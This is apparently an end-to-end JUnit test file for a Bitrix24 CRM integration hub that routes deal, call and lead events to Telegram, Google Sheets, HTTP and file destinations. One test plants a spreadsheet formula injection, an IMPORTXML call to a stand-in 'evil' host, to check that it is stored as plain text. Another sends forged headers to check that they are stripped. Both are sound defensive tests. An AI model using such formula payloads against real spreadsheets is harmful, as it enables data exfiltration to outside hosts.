package io.b24hub.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.assertj.core.api.Assertions.within;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.b24hub.HubRig;
import io.b24hub.emulator.Fault;
import io.b24hub.emulator.Kind;
import io.b24hub.emulator.Received;
import io.b24hub.emulator.SheetsEmulator;
import io.b24hub.event.Bitrix24Event;
import io.b24hub.event.EventJson;
import io.b24hub.operate.Actor;
import io.b24hub.store.DeliveryFilter;
import io.b24hub.store.DeliveryRecord;
import io.b24hub.store.DeliveryState;
import io.b24hub.store.Hold;
import io.b24hub.store.OperatorAction;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** The route files of the project, from the portal's call to the far side's socket. */
@Timeout(120)
class FlowsTest {

    private static final String TELEGRAM = "deal-won-to-telegram";
    private static final String SHEET = "deals-to-google-sheet";
    private static final String HTTP = "events-to-http";
    private static final String FILE = "events-to-file";
    private static final Object[] DEAL_COLUMNS = {
        "ID",
        "Title",
        "Stage",
        "Funnel",
        "Amount",
        "Currency",
        "Responsible",
        "Source",
        "Created",
        "Changed",
        "Closing date",
        "Closed",
        "Link"
    };
    private static final Duration PATIENCE = Duration.ofSeconds(30);
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    private Path home;

    private HubRig rig;

    @BeforeEach
    void prepare() {
        rig = new HubRig(home);
    }

    @AfterEach
    void stop() {
        rig.close();
    }

    @Test
    void every_reference_flow_with_its_settings_is_on_and_those_without_say_what_they_need() {
        rig.start();

        assertThat(rig.hub().flows())
                .filteredOn(line -> line.startsWith("on"))
                .extracting(line -> line.replaceFirst(".*flows/([A-Za-z-]+).*", "$1"))
                .containsExactlyInAnyOrder(
                        TELEGRAM,
                        SHEET,
                        HTTP,
                        FILE,
                        "MissedCallToTelegram",
                        "new-lead-to-telegram",
                        "deal-stage-to-telegram",
                        "tasks-to-telegram",
                        "overdue-tasks-to-telegram",
                        "daily-digest-to-telegram",
                        "ledger-to-telegram",
                        "calls-to-google-sheet",
                        "robot-to-http");
        assertThat(rig.hub().flows())
                .filteredOn(line -> line.startsWith("off"))
                .hasSize(3)
                .anyMatch(line -> line.contains("hub-alerts-to-telegram") && line.contains("chat-id"))
                .anyMatch(line -> line.contains("crm-to-kafka") && line.contains("hub.kafka.brokers"))
                .anyMatch(line -> line.contains("contacts-to-sql") && line.contains("hub.sql.url"));
    }

    @Test
    void a_won_deal_becomes_one_telegram_message_with_its_cyrillic_intact() {
        rig.start();
        long deal = addDeal(Map.of("TITLE", "Поставка «Ёлка» №5", "OPPORTUNITY", "150000", "ASSIGNED_BY_ID", "2"));

        rig.far().portal().records().update(Kind.DEAL, deal, Map.of("STAGE_ID", "EXECUTING"));
        rig.settle();
        assertThat(rig.delivery(rig.event("ONCRMDEALUPDATE", "deal:" + deal), TELEGRAM, DeliveryState.FILTERED)
                        .failures())
                .isZero();
        assertThat(messages()).isEmpty();

        rig.far().portal().records().update(Kind.DEAL, deal, Map.of("STAGE_ID", "WON"));
        await().atMost(PATIENCE)
                .until(() -> rig.events("ONCRMDEALUPDATE", "deal:" + deal).size() == 2);
        rig.settle();

        assertThat(messages())
                .containsExactly(
                        "🏆 <b>Deal won:</b> <a href=\"" + rig.far().portal().baseUri() + "/crm/deal/details/"
                                + deal + "/\">Поставка «Ёлка» №5</a>\nAmount: <b>RUB\u00a0150,000.00</b>"
                                + "\nResponsible: Мария Иванова");
        assertThat(rig.delivery(
                        rig.events("ONCRMDEALUPDATE", "deal:" + deal).get(0), TELEGRAM, DeliveryState.DELIVERED))
                .isNotNull();
    }

    @Test
    void an_incoming_call_that_nobody_answered_becomes_a_message_and_others_do_not() {
        rig.start();
        rig.far().portal().records().add(Kind.CALL, call("+79990000001", "2", "200"));
        rig.far().portal().records().add(Kind.CALL, call("+79990000002", "1", "304"));
        rig.far().portal().records().add(Kind.CALL, call("+79990000003", "2", "304"));
        rig.far().portal().records().add(Kind.CALL, call("+79990000004", "2", "603-S"));

        await().atMost(PATIENCE).until(() -> callMessages().size() >= 2);
        await().atMost(PATIENCE)
                .until(() -> rig.ends().stream()
                                .filter("missed-call-to-telegram filtered"::equals)
                                .count()
                        == 2);
        assertThat(callMessages())
                .hasSize(2)
                .anyMatch(text -> text.startsWith("📞 <b>Missed call:</b> +7 999 000-00-03, "))
                .anyMatch(text -> text.startsWith("📞 <b>Missed call:</b> +7 999 000-00-04, "));
    }

    @Test
    void a_deal_becomes_one_row_below_the_header_that_later_changes_keep_up_to_date_and_a_formula_stays_text() {
        rig.start();
        long plain = addDeal(Map.of("TITLE", "Насос", "OPPORTUNITY", "1500.5", "CURRENCY_ID", "USD"));
        rig.delivery(rig.event("ONCRMDEALADD", "deal:" + plain), SHEET, DeliveryState.DELIVERED);
        long formula = addDeal(Map.of("TITLE", "=IMPORTXML(\"http://evil\",\"//a\")"));
        rig.delivery(rig.event("ONCRMDEALADD", "deal:" + formula), SHEET, DeliveryState.DELIVERED);
        rig.far().portal().records().update(Kind.DEAL, plain, Map.of("STAGE_ID", "EXECUTING"));
        rig.delivery(rig.event("ONCRMDEALUPDATE", "deal:" + plain), SHEET, DeliveryState.DELIVERED);

        List<List<Object>> rows = rows();
        assertThat(rows).hasSize(3);
        assertThat(rows.get(0)).containsExactly(DEAL_COLUMNS);
        assertThat(rows.get(1).subList(0, 6))
                .map(String::valueOf)
                .containsExactly(Long.toString(plain), "Насос", "В работе", "Общая", "1500.50", "USD");
        assertThat(rows.get(1).get(12)).isEqualTo(rig.far().portal().baseUri() + "/crm/deal/details/" + plain + "/");
        assertThat(rows.get(2).get(1)).isEqualTo("=IMPORTXML(\"http://evil\",\"//a\")");
        assertThat(rig.far().sheets().received())
                .filteredOn(request -> request.body().contains("IMPORTXML"))
                .isNotEmpty()
                .allMatch(request -> (request.path() + request.body()).contains("RAW"));
    }

    @Test
    void the_header_stays_on_top_and_no_deal_gets_two_rows() {
        rig.start();
        long first = addDeal(Map.of("TITLE", "one"));
        rig.delivery(rig.event("ONCRMDEALADD", "deal:" + first), SHEET, DeliveryState.DELIVERED);
        for (int i = 2; i <= 12; i++) {
            long deal = addDeal(Map.of("TITLE", "new " + i));
            rig.far().portal().records().update(Kind.DEAL, deal, Map.of("TITLE", "deal " + i));
        }
        rig.settle();

        assertThat(rows()).hasSize(13);
        assertThat(rows().get(0)).containsExactly(DEAL_COLUMNS);
        assertThat(rows().get(1).get(1)).isEqualTo("one");
        assertThat(rows().subList(2, 13))
                .extracting(row -> String.valueOf(row.get(1)))
                .allMatch(title -> title.startsWith("deal "))
                .doesNotHaveDuplicates();
    }

    @Test
    void the_http_endpoint_gets_the_event_as_documented_and_nothing_of_the_caller() throws Exception {
        rig.start();
        post(
                "event=ONCRMDEALUPDATE&event_handler_id=7&data[FIELDS][ID]=31&ts=1766047124&auth[domain]=demo.bitrix24.ru"
                        + "&auth[member_id]=" + rig.far().portal().identity().memberId() + "&auth[application_token]="
                        + rig.far().portal().identity().applicationToken(),
                "X-Caller",
                "leave-me-out",
                "CamelHttpUri",
                "http://127.0.0.1:1/elsewhere",
                "CamelHttpPath",
                "/elsewhere",
                "Event-Id",
                "forged",
                "Cookie",
                "session=1",
                "webhook-id",
                "forged",
                "webhook-signature",
                "v1,forged");
        Bitrix24Event event = rig.event("ONCRMDEALUPDATE", "deal:31");
        rig.delivery(event, HTTP, DeliveryState.DELIVERED);

        Received got = only(rig.far().sink().received());
        assertThat(got.method()).isEqualTo("POST");
        assertThat(got.path()).isEqualTo("/events");
        assertThat(got.body()).isEqualTo(EventJson.toJson(event));
        JsonNode body = JSON.readTree(got.body());
        assertThat(body.fieldNames())
                .toIterable()
                .containsExactly(
                        "schema",
                        "id",
                        "portal",
                        "type",
                        "entity",
                        "handlerId",
                        "occurredAt",
                        "receivedAt",
                        "origin",
                        "data");
        assertThat(body.path("entity").toString()).isEqualTo("{\"type\":\"deal\",\"typeId\":2,\"id\":\"31\"}");
        assertThat(body.path("data").toString()).isEqualTo("{\"FIELDS\":{\"ID\":\"31\"}}");
        assertThat(body.path("occurredAt").asText()).isEqualTo("2025-12-18T08:38:44Z");
        assertThat(body.path("origin").asText()).isEqualTo("webhook");
        assertThat(body.path("handlerId").asText()).isEqualTo("7");
        assertThat(got.headers())
                .containsEntry("event-id", event.id())
                .containsEntry("webhook-id", event.id())
                .containsEntry("event-type", "ONCRMDEALUPDATE")
                .containsEntry("content-type", "application/json")
                .containsEntry("user-agent", "b24hub");
        Set<String> expected = Set.of(
                "webhook-id",
                "webhook-timestamp",
                "event-id",
                "event-type",
                "content-type",
                "content-length",
                "user-agent",
                "host",
                "connection",
                "accept-encoding",
                "transfer-encoding",
                "upgrade");
        assertThat(new TreeSet<>(got.headers().keySet())).isSubsetOf(new TreeSet<>(expected));
    }

    @Test
    void every_event_becomes_one_line_of_json_in_the_file() throws Exception {
        rig.start();
        for (int i = 0; i < 30; i++) {
            rig.far().portal().records().add(Kind.LEAD, Map.of("TITLE", "Лид " + i));
        }
        rig.far().portal().records().add(Kind.TASK, Map.of("TITLE", "Задача"));
        await().atMost(PATIENCE).until(() -> rig.fileLines().size() == 31);
        rig.settle();

        Set<String> ids = new TreeSet<>();
        for (String line : rig.fileLines()) {
            JsonNode event = JSON.readTree(line);
            ids.add(event.path("id").asText());
            assertThat(line)
                    .isEqualTo(EventJson.toJson(
                            rig.hub().store().event(event.path("id").asText()).orElseThrow()));
        }
        assertThat(ids).hasSize(31);
    }

    @Test
    void a_sink_that_fails_twice_gets_the_event_once_it_takes_it() {
        rig.start();
        rig.far().sink().faults().add(Fault.status(500).times(2));
        long deal = addDeal(Map.of("TITLE", "Насос"));
        Bitrix24Event event = rig.event("ONCRMDEALADD", "deal:" + deal);

        DeliveryRecord delivery = rig.delivery(event, HTTP, DeliveryState.DELIVERED);

        assertThat(delivery.failures()).isZero();
        assertThat(rig.far().sink().received())
                .hasSize(3)
                .allMatch(request -> request.headers().get("event-id").equals(event.id()));
    }

    @Test
    void attempts_are_counted_where_an_operator_can_see_them() {
        rig.start();
        rig.far().sink().faults().add(Fault.status(500).times(7));
        long deal = addDeal(Map.of("TITLE", "Насос"));
        Bitrix24Event event = rig.event("ONCRMDEALADD", "deal:" + deal);

        DeliveryRecord delivery = rig.delivery(event, HTTP, DeliveryState.DELIVERED);

        assertThat(delivery.failures()).isEqualTo(2);
        assertThat(delivery.reason()).contains("500");
        assertThat(rig.far().sink().received()).hasSize(8);
        assertThat(rig.ends())
                .filteredOn(end -> end.startsWith(HTTP))
                .containsExactly(HTTP + " retried", HTTP + " retried", HTTP + " delivered");
    }

    @Test
    void a_sink_that_asks_for_an_hour_is_left_alone_while_the_others_go_on() {
        rig.start();
        rig.far().sink().faults().add(Fault.status(429).withRetryAfter(3_600));
        long first = addDeal(Map.of("TITLE", "Насос"));
        Bitrix24Event event = rig.event("ONCRMDEALADD", "deal:" + first);
        await().atMost(PATIENCE).until(() -> rig.ends().contains(HTTP + " postponed"));
        long second = addDeal(Map.of("TITLE", "Клапан"));
        Bitrix24Event later = rig.event("ONCRMDEALADD", "deal:" + second);

        rig.delivery(event, SHEET, DeliveryState.DELIVERED);
        rig.delivery(later, SHEET, DeliveryState.DELIVERED);
        rig.delivery(later, FILE, DeliveryState.DELIVERED);

        DeliveryRecord postponed = rig.delivery(event, HTTP, DeliveryState.DUE);
        assertThat(postponed.failures()).isZero();
        assertThat(postponed.dueAt()).isCloseTo(Instant.now().plusSeconds(3_600), within(60, ChronoUnit.SECONDS));
        assertThat(postponed.reason()).contains("429");
        assertThat(rig.delivery(later, HTTP).orElseThrow().state()).isIn(DeliveryState.DUE, DeliveryState.RUNNING);
        assertThat(rig.far().sink().received()).hasSize(1);
    }

    @Test
    void an_address_that_is_gone_parks_one_delivery_and_the_others_wait_until_it_is_resumed() {
        rig.start();
        rig.far().sink().faults().add(Fault.status(410));
        long deal = addDeal(Map.of("TITLE", "Насос"));
        Bitrix24Event event = rig.event("ONCRMDEALADD", "deal:" + deal);

        DeliveryRecord parked = rig.delivery(event, HTTP, DeliveryState.PARKED);

        assertThat(parked.failures()).isEqualTo(1);
        assertThat(parked.reason()).contains("410");
        long second = addDeal(Map.of("TITLE", "Клапан"));
        Bitrix24Event later = rig.event("ONCRMDEALADD", "deal:" + second);
        rig.delivery(later, FILE, DeliveryState.DELIVERED);
        assertThat(rig.far().sink().received()).hasSize(1);
        assertThat(rig.hub().store().find(DeliveryFilter.ALL.in(DeliveryState.PARKED), Long.MAX_VALUE, 10))
                .extracting(DeliveryRecord::eventId)
                .containsExactly(event.id());
        Hold hold = rig.hub().operations().holds().get(0);
        assertThat(hold.kind()).isEqualTo(Hold.Kind.DESTINATION);
        assertThat(hold.origin()).isEqualTo("410");

        rig.far().sink().faults().clear();
        rig.hub().operations().resume(hold.kind(), hold.name(), Actor.LOCAL).join();
        rig.delivery(later, HTTP, DeliveryState.DELIVERED);
        assertThat(rig.hub().operations().actions(10))
                .extracting(OperatorAction::origin, OperatorAction::action)
                .containsExactly(tuple("local", "resume"), tuple("410", "pause"));
    }

    @Test
    void a_portal_that_refuses_for_too_many_calls_is_asked_again_and_nothing_is_lost() {
        rig.start();
        rig.far().portal().limit(1, 4);
        List<Long> deals = new ArrayList<>();
        for (int i = 0; i < 12; i++) {
            deals.add(addDeal(Map.of("TITLE", "Сделка " + i)));
        }

        for (long deal : deals) {
            rig.delivery(rig.event("ONCRMDEALADD", "deal:" + deal), SHEET, DeliveryState.DELIVERED);
        }

        assertThat(rig.far().portal().refused()).isPositive();
        assertThat(rows())
                .filteredOn(row -> !row.get(0).equals("ID"))
                .extracting(row -> String.valueOf(row.get(0)))
                .containsExactlyInAnyOrderElementsOf(
                        deals.stream().map(String::valueOf).toList());
    }

    @Test
    void an_entity_deleted_before_it_is_read_is_no_failure() {
        long deal = addDeal(Map.of("TITLE", "Недолго"));
        rig.far().portal().records().delete(Kind.DEAL, deal);
        rig.start();
        rig.far().portal().webhook().send("ONCRMDEALUPDATE", Map.of("FIELDS", Map.of("ID", deal)));
        Bitrix24Event event = rig.event("ONCRMDEALUPDATE", "deal:" + deal);

        assertThat(rig.delivery(event, SHEET, DeliveryState.FILTERED).failures())
                .isZero();
        assertThat(rig.delivery(event, TELEGRAM, DeliveryState.FILTERED).failures())
                .isZero();
        assertThat(rig.delivery(event, HTTP, DeliveryState.DELIVERED).failures())
                .isZero();
        assertThat(rows()).isEmpty();
        assertThat(messages()).isEmpty();
    }

    @Test
    void reset_connections_everywhere_are_survived() {
        rig.start();
        rig.far().sink().faults().add(Fault.reset());
        rig.far().telegram().faults().add(Fault.reset().onPath("sendMessage"));
        rig.far().sheets().faults().add(Fault.reset().onPath("values"));
        rig.far().portal().faults().add(Fault.reset().times(2));
        long deal = addDeal(Map.of("TITLE", "Насос", "ASSIGNED_BY_ID", "2"));
        rig.far().portal().records().update(Kind.DEAL, deal, Map.of("STAGE_ID", "WON"));

        Bitrix24Event won = rig.event("ONCRMDEALUPDATE", "deal:" + deal);
        rig.delivery(won, TELEGRAM, DeliveryState.DELIVERED);
        rig.delivery(won, SHEET, DeliveryState.DELIVERED);
        rig.delivery(won, HTTP, DeliveryState.DELIVERED);
        rig.delivery(rig.event("ONCRMDEALADD", "deal:" + deal), SHEET, DeliveryState.DELIVERED);

        assertThat(messages()).hasSize(1);
        assertThat(rows()).as("the header and the deal").hasSize(2);
    }

    @Test
    void deliveries_wait_for_a_sink_that_is_down_over_a_restart_and_arrive_when_it_is_back() {
        rig.start();
        URI sink = rig.far().sink().baseUri();
        rig.far().sink().close();
        for (int i = 0; i < 5; i++) {
            rig.far().portal().records().add(Kind.LEAD, Map.of("TITLE", "Лид " + i));
        }
        await().atMost(PATIENCE)
                .until(() ->
                        rig.ends().stream().filter((HTTP + " retried")::equals).count() >= 5);
        assertThat(rig.ends()).doesNotContain(HTTP + " delivered");

        rig.stop();
        rig.start();
        rig.far().sink().start("127.0.0.1", sink.getPort());
        rig.settle();

        assertThat(rig.far().sink().received())
                .extracting(request -> request.headers().get("event-id"))
                .hasSize(5)
                .doesNotHaveDuplicates();
        assertThat(rig.fileLines()).hasSize(5);
    }

    private long addDeal(Map<String, String> fields) {
        return rig.far().portal().records().add(Kind.DEAL, fields);
    }

    private static Map<String, String> call(String phone, String type, String code) {
        return Map.of("PHONE_NUMBER", phone, "CALL_TYPE", type, "CALL_FAILED_CODE", code, "CALL_ID", "call" + phone);
    }

    private List<String> messages() {
        return rig.far().telegram().messages(HubRig.SALES_CHAT);
    }

    private List<String> callMessages() {
        return rig.far().telegram().messages(HubRig.CALLS_CHAT);
    }

    private List<List<Object>> rows() {
        return rig.far().sheets().rows(SheetsEmulator.DEMO_SPREADSHEET, "Deals");
    }

    private static Received only(List<Received> received) {
        assertThat(received).hasSize(1);
        return received.get(0);
    }

    private void post(String form, String... headers) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(rig.intake())
                .timeout(Duration.ofSeconds(20))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .headers(headers)
                .POST(HttpRequest.BodyPublishers.ofString(form))
                .build();
        assertThat(HttpClient.newBuilder()
                        .version(HttpClient.Version.HTTP_1_1)
                        .build()
                        .send(request, HttpResponse.BodyHandlers.discarding())
                        .statusCode())
                .isEqualTo(200);
    }
}
